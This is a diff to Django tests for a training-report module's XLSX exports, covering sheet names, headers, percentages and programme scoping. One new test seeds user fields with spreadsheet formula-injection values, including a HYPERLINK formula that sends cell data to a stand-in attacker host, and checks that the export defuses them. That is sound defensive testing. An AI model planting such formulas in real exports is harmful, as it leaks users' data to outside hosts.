@@ -3,18 +3,17 @@
 import io
 
 import pytest
-from django.db import connection
-from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from django.utils import translation
 from openpyxl import load_workbook
 
 from pazanga.directory.tests.factories import BranchFactory
 from pazanga.events.enums import RegistrationStatus
+from pazanga.events.models import Event
 from pazanga.programme.enums import Role
 from pazanga.programme.tests.factories import person_with_role
 from pazanga.training import reports, services, workflow
 from pazanga.training.enums import Instrument
-from pazanga.training.tests.conftest import LAST_DAY, plan
 from pazanga.training.tests.test_services import FEEDBACK, ONE_RIGHT, RIGHT, answer
 
 S = RegistrationStatus
@@ -101,59 +100,6 @@ def test_satisfaction_per_session_and_trainer(year):
     assert trainer_table.rows == [["Eglė Lektorė", 2, 4.5]]
 
 
-def test_the_report_page_runs_the_same_queries_for_one_and_three_sessions(
-    client_of, partner, year, course, alytus, staff_member, trainer, clock, librarian_b
-):
-    client = client_of(partner)
-
-    def count() -> int:
-        with CaptureQueriesContext(connection) as queries:
-            assert client.get(reverse("training:reports")).status_code == 200
-        return len(queries)
-
-    one = count()
-    clock.move_to(LAST_DAY.replace(month=4))
-    for title in ("Antra", "Trečia"):
-        other = plan(
-            course,
-            alytus,
-            staff_member,
-            trainers=[trainer],
-            title_lt=title,
-            starts_at=year.event.starts_at.replace(month=9),
-            ends_at=year.event.ends_at.replace(month=9),
-        )
-        services.enrol(other, librarian_b) if title == "Antra" else None
-    assert count() == one
-
-
-def test_the_library_report_runs_the_same_queries_for_one_and_three_libraries(
-    client_of, staff_member, session, librarian_a, clock, programme
-):
-    from pazanga.directory.tests.factories import LibraryFactory
-
-    trained(session, librarian_a, staff_member, clock)
-    client = client_of(staff_member)
-
-    def count() -> int:
-        with CaptureQueriesContext(connection) as queries:
-            client.get(reverse("training:report_libraries"))
-        return len(queries)
-
-    one = count()
-    for index in range(2):
-        library = LibraryFactory()
-        person = person_with_role(
-            Role.LIBRARY_STAFF, email=f"x{index}@l.example", organisation=library
-        )
-        clock.move_to(session.event.starts_at.replace(day=1))
-        trained(session, person, staff_member, clock)
-    client = client_of(staff_member)
-    assert count() == one
-    page = client.get(reverse("training:report_libraries")).content.decode()
-    assert "Alytaus rajono savivaldybės viešoji biblioteka" in page
-
-
 @pytest.fixture
 def partner(programme):
     return person_with_role(Role.PARTNER, email="fondas@gates.example")
@@ -166,16 +112,77 @@ def test_the_report_page_shows_the_map_with_its_attribution(client_of, partner, 
     assert "Projektų valdymas" in page
 
 
-def test_every_table_exports_to_xlsx(client_of, partner, year):
-    response = client_of(partner).get(reverse("training:reports"), {"export": "all"})
+def test_every_table_exports_to_xlsx_one_sheet_each(client_of, partner, year, library_a):
+    response = client_of(partner).get(english("reports"), {"export": "all", "year": 2014})
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    assert response["Content-Disposition"] == 'attachment; filename="training-all-2014.xlsx"'
     workbook = load_workbook(io.BytesIO(response.content))
-    assert len(workbook.sheetnames) == 8
-    coverage = workbook.worksheets[1]
-    assert coverage["A1"].value in ("Apskritis", "County")
-    one = client_of(partner).get(reverse("training:reports"), {"export": "gain_module"})
-    sheet = load_workbook(io.BytesIO(one.content)).worksheets[0]
+    assert workbook.sheetnames == [
+        "Staff trained by module and cou",  # cut at Excel's 31 characters
+        "Coverage by county",
+        "Coverage- urban and rural libra",
+        "Coverage by municipality",
+        "Knowledge gain by module",
+        "Knowledge gain by trainer",
+        "Satisfaction by session",
+        "Satisfaction by trainer",
+    ]
+    coverage = workbook["Coverage by county"]
+    assert [c.value for c in coverage[1]] == [
+        "County",
+        "Libraries",
+        "Libraries with trained staff",
+        "Share of libraries (%)",
+        "Staff headcount",
+        "Staff trained",
+        "Trained ÷ headcount (%)",
+    ]
+    county = str(library_a.municipality.county.name)
+    [row] = [r for r in coverage.iter_rows(min_row=2, values_only=True) if r[0] == county]
+    assert row == (county, 2, 1, 50.0, 12, 1, 8.3)  # shares as percentages, one decimal
+    gain = workbook["Knowledge gain by module"]
+    assert [c.value for c in gain[2]][:5] == ["Project management", 2, 50.0, 100.0, 50.0]
+    p_value = gain.cell(row=2, column=9).value
+    assert isinstance(p_value, float) and p_value == float(f"{p_value:.4g}")
+    assert gain.cell(row=gain.max_row, column=1).value.startswith("Scores in percent")  # note
+    with translation.override("lt"):
+        lithuanian = reverse("training:reports")
+    one = client_of(partner).get(lithuanian, {"export": "gain_module"})
+    assert one["Content-Disposition"] == 'attachment; filename="training-gain_module-all.xlsx"'
+    [sheet] = load_workbook(io.BytesIO(one.content)).worksheets
+    assert sheet.title == "Žinių prieaugis pagal modulį"
     assert sheet["A2"].value == "Projektų valdymas" and sheet["B2"].value == 2
+
+
+def english(name: str) -> str:
+    with translation.override("en"):
+        return reverse(f"training:{name}")
+
+
+def test_a_formula_typed_by_a_user_is_defused_in_the_training_export(
+    client_of, partner, staff_member, year, trainer_user, library_b
+):
+    trainer_user.first_name = '=HYPERLINK("http://attacker.example/?"&A1,"Eglė")'
+    trainer_user.save()
+    Event.objects.filter(pk=year.event_id).update(title_lt="+SUM(1,2)", title_en="@SUM(1,2)")
+    library_b.name = "-2+3 biblioteka"
+    library_b.save()
+    workbook = load_workbook(
+        io.BytesIO(client_of(partner).get(reverse("training:reports"), {"export": "all"}).content)
+    )
+    texts = {
+        cell.value
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Eglė") Lektorė' in texts
+    assert "'+SUM(1,2)" in texts
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
+    libraries = client_of(staff_member).get(reverse("training:report_libraries"), {"export": "1"})
+    names = [row[0] for row in load_workbook(io.BytesIO(libraries.content)).active.values]
+    assert "'-2+3 biblioteka" in names
 
 
 def test_the_library_report_exports_to_xlsx(client_of, staff_member, year):
@@ -183,3 +190,22 @@ def test_the_library_report_exports_to_xlsx(client_of, staff_member, year):
     sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
     names = {row[0].value for row in sheet.iter_rows(min_row=2)}
     assert "Alytaus rajono savivaldybės viešoji biblioteka" in names
+
+
+def test_the_reports_count_only_the_current_programmes_training(
+    client_of, partner, staff_member, year, programme, other_programme
+):
+    def trained_libraries() -> int:
+        return reports.coverage_by_county(reports.Scope(2014, programme=programme)).rows[-1][2]
+
+    assert trained_libraries() == 2
+    libraries = reverse("training:report_libraries")
+    assert "Birštono viešoji biblioteka" in client_of(staff_member).get(libraries).content.decode()
+    assert "Eglė Lektorė" in client_of(partner).get(reverse("training:reports")).content.decode()
+    Event.objects.filter(pk=year.event_id).update(programme=other_programme)
+    assert trained_libraries() == 0
+    assert reports.coverage_by_county(reports.Scope(2014)).rows[-1][2] == 2  # every programme
+    page = client_of(staff_member).get(libraries).content.decode()
+    assert "Birštono viešoji biblioteka" not in page
+    gain = client_of(partner).get(reverse("training:reports")).content.decode()
+    assert "Eglė Lektorė" not in gain  # nobody's knowledge gain from another programme
